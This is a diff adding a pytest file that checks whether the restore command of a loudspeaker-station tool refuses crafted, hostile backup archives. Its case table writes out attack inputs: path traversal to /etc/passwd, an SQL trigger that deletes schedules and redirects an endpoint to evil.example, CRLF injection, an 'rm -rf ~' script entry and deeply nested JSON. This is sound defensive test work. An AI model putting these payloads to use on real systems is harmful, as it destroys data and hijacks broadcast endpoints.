@@ -1,0 +1,226 @@
+"""Hostile input, as a careless user, a broken machine or an attacker with a crafted file would
+present it: each case through the real CLI, asserting the exit code, the message, and that the
+database (as an SQL dump) and the media tree are byte-identical afterwards.
+
+The crafted backups are made from a real backup of a real station by tests.support.hostile,
+which rewrites the manifest's hashes to match (the hashes catch damage, not intent)."""
+
+from __future__ import annotations
+
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.conftest import Cli, clone
+from tests.support import hostile
+
+pytestmark = pytest.mark.slow
+
+PASSWORD = "mat-khau-bi-mat-42"
+RELAY_PASSWORD = "relay-secret-77"
+
+
+def build_station(cli: Cli, make_audio: Callable[..., Path], root: Path) -> None:
+    """A commune with an Icecast endpoint (with its password), an offline endpoint, one
+    approved clip with its rendition, a playlist with a relay, a schedule; and its backup."""
+    pw = root / "pw.txt"
+    pw.write_text(PASSWORD + "\n", encoding="utf-8")
+    cli.ok("init")
+    cli.ok("areas", "add", "X1", "--name", "Xã An Bình", "--level", "commune", "--quiet-hours", "none")
+    cli.ok("endpoints", "add", "loa1", "--name", "Loa 1", "--area", "X1", "--url", "icecast://source@127.0.0.1:8000/an-binh", "--password-file", str(pw))
+    cli.ok("endpoints", "add", "loa2", "--name", "Loa 2", "--area", "X1", "--url", (root / "out").as_uri())
+    cli.ok("clips", "add", str(make_audio(seconds=2)), "--approve-by", "A", "--json")
+    cli.ok("playlists", "create", "Sáng", "1")
+    cli.ok("playlists", "add-relay", "1", f"http://vov:{RELAY_PASSWORD}@127.0.0.1:9/vov1", "--duration", "60")
+    cli.ok("schedules", "add", "--playlist", "1", "--target", "X1", "--times", "06:00", "--days", "daily")
+    cli.ok("backup", str(root / "good.zip"))
+    (root / "pp.txt").write_text("cụm từ bí mật của xã\n", encoding="utf-8")
+    cli.ok("backup", str(root / "sealed.zip"), "--passphrase-file", str(root / "pp.txt"))
+
+
+@pytest.fixture
+def station(cli: Cli, data_template: Callable[..., Path]) -> Cli:
+    clone(data_template("hostile-station", build_station), cli)
+    return cli
+
+
+def template_file(data_template: Callable[..., Path], name: str) -> Path:
+    return data_template("hostile-station", build_station).parent / name
+
+
+def _rendition_name(m: dict[str, Any]) -> str:
+    return next(e for e in m["entries"] if e.startswith("media/renditions/"))
+
+
+def _deep(n: int) -> str:
+    return "[" * n + "]" * n
+
+
+# name -> (what craft() is given, words the message must hold)
+CASES: dict[str, tuple[dict[str, Any], str]] = {
+    "rendition path outside the store": ({"sql": ("UPDATE renditions SET path = '../../outside.txt';",)}, "outside the media store"),
+    "rendition path absolute": ({"sql": ("UPDATE renditions SET path = '/etc/passwd';",)}, "rendition 1"),
+    "rendition path with a made-up layout": ({"sql": ("UPDATE renditions SET path = 'sources/x.mp3';",)}, "path LoaXa does not make"),
+    "rendition preset with ..": ({"sql": ("UPDATE renditions SET preset_key = '..';",)}, "rendition 1"),
+    "item media extension leading out": ({"sql": ("UPDATE items SET media_ext = '/../../../x';",)}, "item 1"),
+    "item media hash not a hash": ({"sql": ("UPDATE items SET media_sha256 = '../../etc/passwd';",)}, "item 1"),
+    "trigger on a table": (
+        {"sql": ("CREATE TRIGGER evil AFTER UPDATE ON items BEGIN DELETE FROM schedules; UPDATE endpoints SET url = 'icecast://source@evil.example:8000/x'; END;",)},
+        "trigger evil",
+    ),
+    "view added": ({"sql": ("CREATE VIEW v AS SELECT * FROM items;",)}, "view v"),
+    "table added": ({"sql": ("CREATE TABLE extra (x);",)}, "table extra"),
+    "index dropped": ({"sql": ("DROP INDEX ix_items_state;",)}, "ix_items_state"),
+    "column default changed": (
+        {"sql": ("PRAGMA writable_schema=ON; UPDATE sqlite_master SET sql = replace(sql, 'title VARCHAR(500) NOT NULL', 'title VARCHAR(500) NOT NULL DEFAULT (random())') WHERE name = 'items';",)},
+        "table items",
+    ),
+    "revision in the database unknown": ({"sql": ("UPDATE alembic_version SET version_num = '9999';",)}, "revision"),
+    "revision in the manifest not a revision": ({"manifest": lambda m: m.update(schema_revision="abc")}, "does not know"),
+    "revision in the manifest newer": ({"manifest": lambda m: m.update(schema_revision="9999")}, "newer LoaXa"),
+    "garbage instead of the database": ({"replace": {hostile.DB: b"SQLite format 3\x00" + b"\xff" * 5000}}, "database"),
+    "text instead of the database": ({"replace": {hostile.DB: b"xin chao"}}, "database"),
+    "setting preset name leading out": ({"sql": ("INSERT INTO settings (key, value) VALUES ('loudness.preset', '{\"name\": \"../../../tmp/x\"}');",)}, "loudness.preset"),
+    "setting preset name 300 characters": ({"sql": ("INSERT INTO settings (key, value) VALUES ('loudness.preset', '{\"name\": \"" + "a" * 300 + "\"}');",)}, "loudness.preset"),
+    "setting preset nested 20000 deep": ({"sql": ("INSERT INTO settings (key, value) VALUES ('loudness.preset', '{\"name\": " + _deep(20000) + "}');",)}, "loudness.preset"),
+    "setting out of bounds": ({"sql": ("INSERT INTO settings (key, value) VALUES ('backup.keep', '99999999');",)}, "backup.keep"),
+    "setting of the wrong kind": ({"sql": ("INSERT INTO settings (key, value) VALUES ('engine.autostart', '\"yes\"');",)}, "engine.autostart"),
+    "setting unknown": ({"sql": ("INSERT INTO settings (key, value) VALUES ('evil.key', '1');",)}, "evil.key"),
+    "endpoint writing into /etc": ({"sql": ("UPDATE endpoints SET url = 'file:///etc' WHERE code = 'loa2';",)}, "loa2"),
+    "endpoint with a NUL": ({"sql": ("UPDATE endpoints SET url = 'file:///tmp/a%00b' WHERE code = 'loa2';",)}, "loa2"),
+    "endpoint of the internal memory scheme": ({"sql": ("UPDATE endpoints SET url = 'memory://x' WHERE code = 'loa2';",)}, "loa2"),
+    "endpoint with a line break": ({"sql": ("UPDATE endpoints SET url = 'icecast://source@127.0.0.1:8000/m' || char(13, 10) || 'x' WHERE code = 'loa1';",)}, "loa1"),
+    "relay with a line break": ({"sql": ("UPDATE playlist_entries SET relay_url = 'http://h/x' || char(10) || '#EXTINF:1,x' WHERE relay_url IS NOT NULL;",)}, "relay"),
+    "media is a file, not a folder": ({"add": {"media": b"not a folder"}}, "does not make: media"),
+    "entry with an unknown name": ({"add": {"run-me.sh": b"#!/bin/sh\nrm -rf ~\n"}}, "run-me.sh"),
+    "entry leading out with ..": ({"add": {"media/../../evil": b"x"}}, "does not make"),
+    "entry with an absolute name": ({"add": {"/tmp/evil": b"x"}}, "does not make"),
+    "source named with another file's hash": ({"add": {"media/sources/00/" + "0" * 64 + ".mp3": b"not this"}}, "does not make"),
+    "window settings of 2 MB": ({"add": {"settings/window.ini": b"x" * (2 << 20)}}, "settings/window.ini"),
+    "two databases": ({"add": {"db/loaxa.sql": b"DROP TABLE items;"}}, "more than one database"),
+    "the same entry twice": ({"duplicate": hostile.DB}, "twice"),
+    "manifest entry not an object": ({"manifest": lambda m: m["entries"].update({_rendition_name(m): "x"})}, "manifest is damaged"),
+    "manifest nested 100000 deep": ({"manifest_raw": _deep(100000).encode()}, "manifest"),
+    "manifest not JSON": ({"manifest_raw": b"\xff\xfe not json"}, "manifest"),
+    "secrets entry damaged": ({"add": {"secrets.enc": b"{\"format\": \"loaxa.secrets\"}"}}, "secrets"),
+    "an entry altered without rehashing": ({"change": lambda n, d: d[:-1] + bytes([d[-1] ^ 1]) if n.startswith("media/") else d, "rehash": False}, "does not match its hash"),
+}
+
+
+def _refuse_and_compare(cli: Cli, bad: Path, *extra: str) -> Any:
+    before = hostile.state(cli.data_dir)
+    r = cli("restore", str(bad), "--force", *extra)
+    after = hostile.state(cli.data_dir)
+    assert r.code == 3, (r.code, r.stderr)
+    assert "Traceback" not in r.stderr and r.stderr.strip()
+    assert after == before, "a refused restore changed the database or the media store"
+    return r
+
+
+@pytest.mark.parametrize("case", list(CASES))
+def test_hostile_backups_are_refused_and_nothing_changes(station: Cli, data_template: Callable[..., Path], tmp_path: Path, case: str) -> None:
+    kwargs, words = CASES[case]
+    bad = hostile.craft(template_file(data_template, "good.zip"), tmp_path / "bad.zip", **kwargs)
+    r = _refuse_and_compare(station, bad)
+    assert words in r.stderr, r.stderr
+
+
+def test_the_good_backup_of_the_corpus_restores(station: Cli, data_template: Callable[..., Path]) -> None:
+    """The corpus's source backup itself is accepted (the refusals above are about the changes)."""
+    before = hostile.state(station.data_dir)
+    station.ok("restore", str(template_file(data_template, "good.zip")), "--force")
+    dump, media, names = hostile.state(station.data_dir)
+    assert media == before[1] and names == before[2]
+    assert PASSWORD not in dump and RELAY_PASSWORD not in dump, "a backup made without a passphrase holds no password"
+
+
+def test_a_restored_trigger_never_fires(station: Cli, data_template: Callable[..., Path], tmp_path: Path) -> None:
+    """The reported attack end to end: the trigger is refused, so the next edit keeps every schedule."""
+    kwargs, _words = CASES["trigger on a table"]
+    bad = hostile.craft(template_file(data_template, "good.zip"), tmp_path / "bad.zip", **kwargs)
+    _refuse_and_compare(station, bad)
+    station.ok("clips", "edit", "1", "--title", "Thông báo mới")
+    assert len(station.json("schedules", "list")) == 1
+
+
+def test_a_rendition_path_outside_never_deletes_that_file(station: Cli, data_template: Callable[..., Path], tmp_path: Path) -> None:
+    victim = tmp_path / "outside.txt"
+    victim.write_text("do not delete", encoding="utf-8")
+    rel = "../" * 12 + str(victim).lstrip("/")
+    bad = hostile.craft(template_file(data_template, "good.zip"), tmp_path / "bad.zip", sql=(f"UPDATE renditions SET path = '{rel}';",))
+    _refuse_and_compare(station, bad)
+    station.ok("clips", "render", "--all")
+    assert victim.read_text(encoding="utf-8") == "do not delete"
+
+
+def test_secrets_travel_sealed_and_come_back_with_the_passphrase(station: Cli, data_template: Callable[..., Path], tmp_path: Path) -> None:
+    sealed = template_file(data_template, "sealed.zip")
+    raw = sealed.read_bytes()
+    assert PASSWORD.encode() not in raw and RELAY_PASSWORD.encode() not in raw
+    assert (sealed.stat().st_mode & 0o077) == 0, "a backup file is readable by its owner only"
+    before_rows = hostile.sql_dump(station.data_dir / "loaxa.db")
+    # a wrong passphrase: refused, nothing changed
+    wrong = tmp_path / "wrong.txt"
+    wrong.write_text("not the passphrase\n", encoding="utf-8")
+    r = _refuse_and_compare(station, sealed, "--passphrase-file", str(wrong))
+    assert "passphrase" in r.stderr
+    # the right one: every password back, the database as it was backed up
+    station.ok("restore", str(sealed), "--force", "--passphrase-file", str(template_file(data_template, "pp.txt")))
+    assert hostile.sql_dump(station.data_dir / "loaxa.db") == before_rows
+    assert (station.data_dir / "loaxa.db").stat().st_mode & 0o077 == 0
+    # without the passphrase it restores, and says the passwords must be entered again
+    r = station("restore", str(sealed), "--force")
+    assert r.code == 0 and "password" in r.stdout
+    assert PASSWORD not in hostile.sql_dump(station.data_dir / "loaxa.db")
+
+
+@pytest.mark.parametrize("where", ["live database", "inside the data folder", "inside the media store", "existing file", "a folder inside the data folder"])
+def test_backup_never_writes_over_live_data(station: Cli, tmp_path: Path, where: str) -> None:
+    data = station.data_dir
+    target = {
+        "live database": data / "loaxa.db",
+        "inside the data folder": data / "b.zip",
+        "inside the media store": data / "media" / "b.zip",
+        "existing file": tmp_path / "existing.zip",
+        "a folder inside the data folder": data / "media",
+    }[where]
+    if where == "existing file":
+        target.write_bytes(b"keep me")
+    before = hostile.state(data), target.read_bytes() if target.is_file() else None
+    r = station("backup", str(target))
+    assert r.code == 3 and "Traceback" not in r.stderr, r.stderr
+    assert ("--force" in r.stderr) if where == "existing file" else ("data folder" in r.stderr)
+    assert (hostile.state(data), target.read_bytes() if target.is_file() else None) == before
+    station.ok("areas", "list")  # the station still works
+    if where == "existing file":
+        station.ok("backup", str(target), "--force")
+        assert zipfile.is_zipfile(target)
+
+
+def test_backup_folder_setting_inside_the_media_store_is_refused_at_run_time(station: Cli, tmp_path: Path) -> None:
+    from datetime import UTC, datetime
+
+    from schedules import backup, settings
+    from schedules.workspace import Workspace
+
+    ws = Workspace.open(station.data_dir)
+    try:
+        with ws.session() as s:
+            settings.set_value(s, "backup.folder", str(ws.media.root / "bk"))
+        r = backup.automatic(ws, datetime.now(UTC))
+    finally:
+        ws.close()
+    assert r.state == "failed" and r.error and "data folder" in r.error
+    assert not (station.data_dir / "media" / "bk").exists()
+
+
+def test_a_media_file_restore_leaves_the_folder_usable(station: Cli, data_template: Callable[..., Path], tmp_path: Path) -> None:
+    """Issue 12, finding 2: after the refused 'media is a file' backup, a good backup restores."""
+    bad = hostile.craft(template_file(data_template, "good.zip"), tmp_path / "bad.zip", add={"media": b"x"})
+    _refuse_and_compare(station, bad)
+    station.ok("restore", str(template_file(data_template, "good.zip")), "--force")
+    assert (station.data_dir / "media").is_dir()
+    station.ok("areas", "list")
